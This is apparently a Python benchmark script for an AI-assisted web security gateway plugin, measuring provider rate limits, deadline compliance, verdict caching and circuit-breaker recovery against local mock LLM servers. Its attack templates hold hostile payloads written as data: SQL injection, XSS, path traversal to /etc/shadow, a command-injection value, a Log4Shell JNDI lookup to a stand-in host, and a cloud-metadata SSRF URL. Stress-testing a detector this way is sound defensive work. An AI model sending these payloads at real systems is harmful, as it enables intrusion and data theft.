#!/usr/bin/python3
"""AI escalation benchmark: real gateways (localgw + the plugin + libguard.so) and mock LLM providers, all on
127.0.0.1. Figures go to docs/benchmarks.md ("AI"); nothing here is asserted by tests.

Two gateways with the same plugin config, one worker each, except that gateway "ai" has the ai section:

  load     5 providers (openai, anthropic, gemini, groq, ollama kinds) at 200/350/500/650/800 ms, each with an
           RPM limit the mock enforces with 429s. Mutated attack requests (grey zone: anomaly_threshold 100)
           are offered at `--overload` times the providers' combined RPM to both gateways. Reported: provider
           429s, requests answered after their deadline, LLM calls per 1,000 attack requests (the verdict
           cache's effect once fingerprints are filled), and clean-traffic latency measured on both gateways
           in the same run, interleaved request by request (p50/p99 and the AI/no-AI ratio).
  kill     priority strategy, the fastest provider killed mid-run and brought back: every request still
           answered within its deadline, and the killed provider's breaker state over time (closed -> open ->
           half_open probes -> closed).

    /usr/bin/python3 bench/ai/ai_bench.py --build build [--phase load|kill|all] [--seconds 60]
        [--workers 2 --redis]   # several workers per gateway need the shared (Redis) quotas
"""

import argparse
import json
import os
import random
import statistics
import sys
import tempfile
import threading
import time
import urllib.parse
from concurrent.futures import ThreadPoolExecutor

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(os.path.dirname(HERE))
sys.path.insert(0, os.path.join(REPO, "tests", "e2e"))

import http.client  # noqa: E402

from harness import RedisServer, start_gateway  # noqa: E402
from mock_llm_server import MockLLM  # noqa: E402

PROVIDERS = [  # name, kind, latency ms
    ("p1", "openai", 200),
    ("p2", "anthropic", 350),
    ("p3", "gemini", 500),
    ("p4", "groq", 650),
    ("p5", "ollama", 800),
]
CLEAN_HEADERS = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64)", "Accept": "application/json"}

# Attack templates with variable slots: the same template gives the same request shape with other values
# (what an attacker's tool or a scanner sends), which the fingerprint + verdict cache should collapse.
TEMPLATES = [
    ("/items", "id={n}' UNION SELECT {col} FROM {tbl}--"),
    ("/items", "id={n} OR {n}={n}"),
    ("/search", "q=<script>alert({n})</script>"),
    ("/search", "q=<img src=x onerror=alert({n})>"),
    ("/files", "name=../../../../etc/{file}"),
    ("/ping", "host=127.0.0.{n};cat /etc/{file}"),
    ("/render", "tpl={{{{{n}*{n}}}}}"),
    ("/log", "ua=${{jndi:ldap://evil{n}.example/{tbl}}}"),
    ("/fetch", "url=http://169.254.169.254/latest/meta-data/{tbl}"),
    ("/users", "sort={col};DROP TABLE {tbl}--"),
]
POOL = {"col": ["password", "email", "username", "secret", "token"],
        "tbl": ["users", "accounts", "admins", "customers"],
        "file": ["passwd", "shadow", "hosts", "group"]}


def mutated_attack(rng):
    path, q = rng.choice(TEMPLATES)
    q = q.format(n=rng.randint(1, 9999), col=rng.choice(POOL["col"]), tbl=rng.choice(POOL["tbl"]),
                 file=rng.choice(POOL["file"]))
    k, v = q.split("=", 1)
    return "/api" + path + "?" + k + "=" + urllib.parse.quote(v, safe="")


def provider_conf(mock, name, kind, rpm, **extra):
    # Ask the mock for the protocol of `kind`; Gemini needs the v1beta base.
    version = "v1beta" if kind == "gemini" else "v1"
    return dict({"name": name, "kind": kind, "base_url": mock.url(name, version), "model": "mock-" + kind,
                 "api_key": "sk-bench-" + name, "rpm": rpm, "timeout_ms": 1500,
                 "usd_per_1m_input": 0.15, "usd_per_1m_output": 0.6}, **extra)


def gateway(workdir, ai, workers=1, redis=None):
    conf = {"anomaly_threshold": 100}
    if ai:
        conf["ai"] = ai
    if redis:
        conf["redis"] = {"host": redis.host, "port": redis.port, "prefix": "bench"}
    cfg = lambda echo: {"_format_version": "3.0", "services": [{  # noqa: E731
        "name": "echo", "url": echo, "routes": [{"name": "api", "paths": ["/api"],
                                                 "plugins": [{"name": "guard-ai", "config": conf}]}]}]}
    return start_gateway(cfg, workdir, workers=workers, cpaths=(ARGS.build,), timeout=30)


def timed_get(port, path, headers=None, timeout=10):
    t0 = time.perf_counter()
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    try:
        conn.request("GET", path, headers=headers or {})
        r = conn.getresponse()
        r.read()
        return r.status, dict((k.lower(), v) for k, v in r.getheaders()), (time.perf_counter() - t0) * 1000
    finally:
        conn.close()


def open_loop(rate, seconds, fn, workers=64):
    """Calls fn(i) at `rate` per second for `seconds` (open loop: a slow answer does not slow the offer)."""
    results = []
    lock = threading.Lock()
    with ThreadPoolExecutor(max_workers=workers) as pool:
        start = time.monotonic()
        i = 0
        futures = []
        while True:
            due = start + i / rate
            if due - start >= seconds:
                break
            delay = due - time.monotonic()
            if delay > 0:
                time.sleep(delay)

            def run(i=i):
                out = fn(i)
                with lock:
                    results.append(out)
            futures.append(pool.submit(run))
            i += 1
        for f in futures:
            f.result()
    return results


def pct(values, p):
    v = sorted(values)
    return v[min(len(v) - 1, int(round(p / 100.0 * (len(v) - 1))))] if v else float("nan")


def ai_status(gw):
    body = json.loads(http_get(gw.admin_port, "/guard-ai/status"))
    for inst in body["instances"].values():
        if inst.get("ai"):
            return inst["ai"]
    return None


def http_get(port, path):
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        conn.request("GET", path)
        return conn.getresponse().read()
    finally:
        conn.close()


# ---------------------------------------------------------------- phase: load

def phase_load(tmp):
    rpm = ARGS.rpm
    mock = MockLLM(os.path.join(tmp, "mock"), max_lifetime=ARGS.seconds * 4 + 300)
    mock.control(**{name: {"latency_ms": lat, "rpm": rpm} for name, _, lat in PROVIDERS})
    deadline_ms = ARGS.deadline_ms
    ai = {"deadline_ms": deadline_ms, "poll_ms": 10, "strategy": "balanced",
          "providers": [provider_conf(mock, n, k, rpm) for n, k, _ in PROVIDERS]}
    redis = RedisServer(os.path.join(tmp, "redis")) if ARGS.redis else None
    # --aa: an A/A control run, both gateways without AI, to show how much the clean-latency ratio moves by noise
    gw_ai = gateway(os.path.join(tmp, "gw-ai"), None if ARGS.aa else ai, ARGS.workers, redis)
    gw_plain = gateway(os.path.join(tmp, "gw-plain"), None, ARGS.workers, redis)
    try:
        total_rpm = rpm * len(PROVIDERS)
        rate = total_rpm * ARGS.overload / 60.0
        seconds = ARGS.seconds
        print(f"load: {ARGS.workers} worker(s) per gateway, {'Redis-shared' if ARGS.redis else 'per-worker'} "
              f"AI quotas; {len(PROVIDERS)} providers x {rpm} rpm = {total_rpm}/min; offering {rate:.1f} attacks/s "
              f"({ARGS.overload}x) for {seconds} s to both gateways; deadline {deadline_ms} ms", flush=True)
        rng = random.Random(42)
        paths = [mutated_attack(rng) for _ in range(int(rate * seconds) + 1)]
        clean = {"ai": [], "plain": []}
        clean_t = {"ai": [], "plain": []}
        stop = threading.Event()

        def measure_clean():
            # Interleaved, one request at a time on each gateway: same moment, same machine load.
            i = 0
            while not stop.is_set():
                for name, g in (("ai", gw_ai), ("plain", gw_plain)) if i % 2 == 0 else (("plain", gw_plain),
                                                                                         ("ai", gw_ai)):
                    st, _, ms = timed_get(g.proxy_port, f"/api/products?q=shoes&page={i % 7}", CLEAN_HEADERS)
                    if st == 200:
                        clean[name].append(ms)
                        clean_t[name].append(time.monotonic())
                i += 1
                time.sleep(ARGS.clean_interval)

        t = threading.Thread(target=measure_clean, daemon=True)
        t.start()

        def attack(i):
            p = paths[i]
            out = {}
            for name, g in (("ai", gw_ai), ("plain", gw_plain)):
                st, h, ms = timed_get(g.proxy_port, p, CLEAN_HEADERS)
                out[name] = (st, h.get("x-guard-ai"), h.get("x-guard-ai-provider"), ms)
            return out

        results = open_loop(rate, seconds, attack)
        stop.set()
        t.join()
        st = ai_status(gw_ai)
        stats = mock.stats()
    finally:
        gw_ai.stop()
        gw_plain.stop()
        mock.stop()
        if redis:
            redis.stop()

    ai_res = [r["ai"] for r in results]
    n = len(ai_res)
    over = [r for r in ai_res if r[3] > deadline_ms + ARGS.slack_ms]
    by_ai = {}
    for r in ai_res:
        by_ai[r[1] or "none"] = by_ai.get(r[1] or "none", 0) + 1
    codes429 = {name: int(stats["status"].get(name, {}).get("429", 0)) for name, _, _ in PROVIDERS}
    calls = {name: int(stats["calls"].get(name, 0)) for name, _, _ in PROVIDERS}
    total_calls = sum(calls.values())
    out = {
        "control_aa": ARGS.aa,
        "workers": ARGS.workers,
        "shared_quotas": "redis" if ARGS.redis else "per-worker",
        "attack_requests": n,
        "offered_per_s": round(rate, 2),
        "overload": ARGS.overload,
        "deadline_ms": deadline_ms,
        "answered_after_deadline": len(over),
        "slack_ms": ARGS.slack_ms,
        "attack_latency_ms": {"p50": round(pct([r[3] for r in ai_res], 50), 1),
                              "p99": round(pct([r[3] for r in ai_res], 99), 1),
                              "max": round(max(r[3] for r in ai_res), 1)},
        "outcomes": by_ai,
        "status_codes": {str(c): sum(1 for r in ai_res if r[0] == c) for c in sorted({r[0] for r in ai_res})},
        "provider_calls": calls,
        "provider_429s": codes429,
        "llm_calls_per_1000_attacks": round(1000.0 * total_calls / max(n, 1), 1),
        "clean": {name: {"n": len(v), "mean_ms": round(statistics.fmean(v), 3), "p50_ms": round(pct(v, 50), 3),
                         "p95_ms": round(pct(v, 95), 3), "p99_ms": round(pct(v, 99), 3),
                         "p999_ms": round(pct(v, 99.9), 3)}
                  for name, v in clean.items()},
        "gateway_ai_status": {k: v for k, v in (st or {}).items() if k != "providers"},
        "providers": {k: {s: v[s] for s in ("calls", "successes", "failures", "rate_limited", "latency_ewma_ms",
                                           "input_tokens", "output_tokens", "cost_usd", "breaker")}
                      for k, v in (st or {}).get("providers", {}).items()},
    }
    ca, cp = out["clean"]["ai"], out["clean"]["plain"]
    out["clean"]["p99_ratio_ai_over_plain"] = round(ca["p99_ms"] / cp["p99_ms"], 3) if cp["p99_ms"] else None
    out["clean"]["p50_ratio_ai_over_plain"] = round(ca["p50_ms"] / cp["p50_ms"], 3) if cp["p50_ms"] else None
    # The same ratio per 10 s window: its spread says how much of the overall ratio is noise.
    windows = []
    t0 = min(clean_t["ai"][0], clean_t["plain"][0]) if clean_t["ai"] and clean_t["plain"] else 0
    for w in range(int(seconds // 10)):
        lo, hi = t0 + 10 * w, t0 + 10 * (w + 1)
        a = [ms for ms, t in zip(clean["ai"], clean_t["ai"]) if lo <= t < hi]
        b = [ms for ms, t in zip(clean["plain"], clean_t["plain"]) if lo <= t < hi]
        if len(a) > 200 and len(b) > 200:
            windows.append(round(pct(a, 99) / pct(b, 99), 3))
    out["clean"]["p99_ratio_per_10s_window"] = windows
    out["clean"]["p99_ratio_median_of_windows"] = round(statistics.median(windows), 3) if windows else None
    out["clean"]["p95_ratio_ai_over_plain"] = round(ca["p95_ms"] / cp["p95_ms"], 3) if cp["p95_ms"] else None
    out["clean"]["mean_ratio_ai_over_plain"] = round(ca["mean_ms"] / cp["mean_ms"], 3) if cp["mean_ms"] else None
    return out


# ---------------------------------------------------------------- phase: kill

def phase_kill(tmp):
    main = MockLLM(os.path.join(tmp, "mock-main"), max_lifetime=ARGS.kill_seconds * 4 + 300)
    victim = MockLLM(os.path.join(tmp, "mock-victim"), max_lifetime=ARGS.kill_seconds * 4 + 300)
    victim.control(p1={"latency_ms": 200})
    main.control(**{name: {"latency_ms": lat} for name, _, lat in PROVIDERS[1:]})
    deadline_ms = ARGS.deadline_ms
    breaker = {"failures": 3, "error_rate": 0.5, "min_calls": 10, "window_ms": 10000, "cooldown_ms": 3000}
    providers = [provider_conf(victim, "p1", "openai", 0, priority=1, breaker=breaker)]
    providers += [provider_conf(main, n, k, 0, priority=i + 2) for i, (n, k, _) in enumerate(PROVIDERS[1:])]
    ai = {"deadline_ms": deadline_ms, "poll_ms": 10, "strategy": "priority", "providers": providers}
    gw = gateway(os.path.join(tmp, "gw-kill"), ai)
    timeline = []
    seconds = ARGS.kill_seconds
    kill_at, back_at = seconds / 4.0, seconds / 2.0
    events = []
    try:
        rng = random.Random(7)
        start = time.monotonic()
        stop = threading.Event()

        def sample():
            last = None
            while not stop.is_set():
                s = ai_status(gw)
                b = s["providers"]["p1"]["breaker"] if s else "?"
                if b != last:
                    timeline.append((round(time.monotonic() - start, 2), b))
                    last = b
                time.sleep(0.05)

        def chaos():
            time.sleep(kill_at)
            victim.stop()
            events.append((round(time.monotonic() - start, 2), "p1 killed"))
            time.sleep(back_at - kill_at)
            victim.start()
            victim.control(p1={"latency_ms": 200})
            events.append((round(time.monotonic() - start, 2), "p1 back"))

        threads = [threading.Thread(target=sample, daemon=True), threading.Thread(target=chaos, daemon=True)]
        for t in threads:
            t.start()

        def attack(i):
            st, h, ms = timed_get(gw.proxy_port, mutated_attack(rng), CLEAN_HEADERS)
            return (round(time.monotonic() - start, 2), st, h.get("x-guard-ai"), h.get("x-guard-ai-provider"), ms)

        results = open_loop(ARGS.kill_rate, seconds, attack)
        stop.set()
        for t in threads:
            t.join()
        st = ai_status(gw)
    finally:
        gw.stop()
        main.stop()
        victim.stop()
    over = [r for r in results if r[4] > deadline_ms + ARGS.slack_ms]
    outage = [r for r in results if kill_at <= r[0] < back_at]
    return {
        "requests": len(results),
        "rate_per_s": ARGS.kill_rate,
        "deadline_ms": deadline_ms,
        "answered_after_deadline": len(over),
        "events": events,
        "p1_breaker_timeline": timeline,
        "during_outage": {
            "requests": len(outage),
            "answered_by": {p: sum(1 for r in outage if r[3] == p) for p in sorted({r[3] or "-" for r in outage})},
            "ai_outcome": {a: sum(1 for r in outage if r[2] == a) for a in sorted({r[2] or "-" for r in outage})},
            "latency_ms_p99": round(pct([r[4] for r in outage], 99), 1) if outage else None,
        },
        "after_return_answered_by_p1": sum(1 for r in results if r[0] >= back_at and r[3] == "p1"),
        "p1": {k: st["providers"]["p1"][k] for k in ("calls", "successes", "failures", "breaker")} if st else None,
    }


def main():
    global ARGS
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--build", default=os.path.join(REPO, "build"))
    ap.add_argument("--phase", choices=["load", "kill", "all"], default="all")
    ap.add_argument("--seconds", type=int, default=60, help="length of the load phase")
    ap.add_argument("--rpm", type=int, default=20, help="RPM limit of each provider (configured and mocked)")
    ap.add_argument("--overload", type=float, default=10.0, help="offered load over the combined RPM")
    ap.add_argument("--deadline-ms", type=int, default=1500)
    ap.add_argument("--slack-ms", type=int, default=50, help="client-side allowance over the deadline")
    ap.add_argument("--clean-interval", type=float, default=0.005, help="pause between clean request pairs")
    ap.add_argument("--workers", type=int, default=1, help="nginx workers per gateway (load phase)")
    ap.add_argument("--redis", action="store_true", help="share AI quotas through a local redis-server")
    ap.add_argument("--aa", action="store_true", help="control run: the 'ai' gateway has no ai section either")
    ap.add_argument("--kill-seconds", type=int, default=40)
    ap.add_argument("--kill-rate", type=float, default=5.0)
    ap.add_argument("--json", help="also write the results here")
    ARGS = ap.parse_args()
    ARGS.build = os.path.abspath(ARGS.build)
    out = {}
    with tempfile.TemporaryDirectory(prefix="ai_bench_") as tmp:
        if ARGS.phase in ("load", "all"):
            out["load"] = phase_load(tmp)
            print(json.dumps(out["load"], indent=2), flush=True)
        if ARGS.phase in ("kill", "all"):
            out["kill"] = phase_kill(tmp)
            print(json.dumps(out["kill"], indent=2), flush=True)
    if ARGS.json:
        with open(ARGS.json, "w") as f:
            json.dump(out, f, indent=2)


ARGS = None

if __name__ == "__main__":
    main()
